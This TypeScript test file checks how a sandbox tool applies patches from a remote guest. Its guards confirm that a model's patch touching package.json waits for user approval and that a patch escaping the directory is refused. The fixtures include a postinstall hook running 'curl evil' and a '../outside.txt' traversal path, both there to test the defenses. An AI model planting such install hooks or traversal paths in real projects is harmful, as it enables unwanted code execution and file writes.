// `apply` and `dashboard` through a context run here: the guest's patch comes from the other
// machine's `diff` (a fake far side here; the real one in e2e/test/context-ssh.test.ts) and is
// applied to this machine's directory under a local apply's rules: a model's paths stay in its
// project, a path where code runs waits for the user's yes, a patch that leaves the directory is
// refused whoever asks. The dashboard's link opens at the context's group.
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { findAction } from "../src/actions/kit/registry.js";
import type { ActionSpec, LocalContext } from "../src/actions/kit/define.js";
import { runHereForContext, runsHereForContext } from "../src/client/context-here.js";
import { guardModelCall, type ConfirmRequest } from "../src/client/model-guard.js";
import { parseSshUrl } from "../src/state/contexts.js";
import { StateLayout } from "../src/state/layout.js";

let dir: string;
let project: string;
let env: NodeJS.ProcessEnv;
let local: LocalContext;
const context = { name: "big", ...parseSshUrl("ssh://me@big.lan") };
const remote = { env: {}, caller: "cli" as const, trust: [], model: false };

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), "here-"));
  project = join(dir, "project");
  await mkdir(project);
  env = { ...process.env, PI_SANDBOX_HOME: join(dir, "state"), HOME: dir };
  local = { layout: new StateLayout(join(dir, "state")), cwd: project, env, actions: [] };
});

afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** A new file's patch, as the guest's `diff` prints it. */
function newFile(path: string, line: string): string {
  return [
    `diff --git a/${path} b/${path}`,
    "new file mode 100644",
    "--- /dev/null",
    `+++ b/${path}`,
    "@@ -0,0 +1 @@",
    `+${line}`,
    "",
  ].join("\n");
}

/** The far side: answers `diff` with `patch`, and records what was asked. */
function farSide(patch: string) {
  const asked: Record<string, unknown>[] = [];
  const send = async (spec: ActionSpec, args: Record<string, unknown>) => {
    asked.push({ spec: spec.name, ...args });
    return {
      name: args.name,
      base: { kind: "create" },
      baseCommit: "a".repeat(40),
      commit: "b".repeat(40),
      files: [],
      stat: { files: 0, added: 0, deleted: 0 },
      patch,
    };
  };
  return { asked, send };
}

const apply = findAction("apply")!;

test("apply and dashboard run here for a context; the rest goes there", () => {
  expect(runsHereForContext(apply)).toBe(true);
  expect(runsHereForContext(findAction("dashboard")!)).toBe(true);
  expect(runsHereForContext(findAction("diff")!)).toBe(false);
  expect(runsHereForContext(findAction("stop")!)).toBe(false);
});

test("the user's apply: the patch from there, written here", async () => {
  const far = farSide(newFile("src/app.js", "console.log('from the guest')"));
  const result = (await runHereForContext(
    apply,
    { action: "apply", name: "demo", since: "cp1", to: project },
    context,
    { local, remote, send: far.send },
  )) as { how: string; stat: unknown; to: string };
  expect(far.asked).toEqual([{ spec: "diff", action: "diff", name: "demo", since: "cp1" }]);
  expect(await readFile(join(project, "src/app.js"), "utf8")).toBe("console.log('from the guest')\n");
  expect(result).toMatchObject({ how: "plain", stat: { files: 1, added: 1, deleted: 0 } });
});

test("a model's apply: package.json waits for the user's yes; a no writes nothing", async () => {
  const patch = newFile("package.json", '{"scripts":{"postinstall":"curl evil"}}');
  const asked: ConfirmRequest[] = [];
  const guardWith = (answer: boolean) =>
    guardModelCall(
      apply,
      { action: "apply", name: "demo", to: project },
      {
        cwd: project,
        strict: false,
        confirm: async (request) => {
          asked.push(request);
          return answer;
        },
      },
      local.layout,
      env,
    );
  const run = async (answer: boolean) =>
    runHereForContext(apply, { action: "apply", name: "demo", to: project }, context, {
      local,
      remote: { ...remote, model: true },
      guarded: await guardWith(answer),
      send: farSide(patch).send,
    });
  await expect(run(false)).rejects.toMatchObject({ code: "CONTROLLER_USER_DECLINED" });
  await expect(readFile(join(project, "package.json"), "utf8")).rejects.toMatchObject({ code: "ENOENT" });
  expect(asked).toHaveLength(1);
  expect(JSON.stringify(asked[0])).toContain("package.json");
  await run(true);
  expect(await readFile(join(project, "package.json"), "utf8")).toContain("postinstall");
});

test("a patch that leaves the directory is refused before anything is written", async () => {
  await writeFile(join(project, "keep.txt"), "kept\n");
  const patch = newFile("ok.txt", "fine") + newFile("../outside.txt", "escaped");
  await expect(
    runHereForContext(apply, { action: "apply", name: "demo", to: project }, context, {
      local,
      remote,
      send: farSide(patch).send,
    }),
  ).rejects.toMatchObject({ code: "CONTROLLER_PATCH_REFUSED" });
  await expect(readFile(join(project, "ok.txt"), "utf8")).rejects.toMatchObject({ code: "ENOENT" });
  await expect(readFile(join(dir, "outside.txt"), "utf8")).rejects.toMatchObject({ code: "ENOENT" });
});

test("the dashboard's link through a context opens at that context's group", async () => {
  const dashboard = {
    ...findAction("dashboard")!,
    run: async () => ({ url: "http://127.0.0.1:4000/?token=t", port: 4000, pid: 1, started: false }),
  } as ActionSpec;
  const info = (await runHereForContext(dashboard, { action: "dashboard" }, context, { local, remote })) as {
    url: string;
  };
  expect(info.url).toBe("http://127.0.0.1:4000/?token=t#context-big");
});
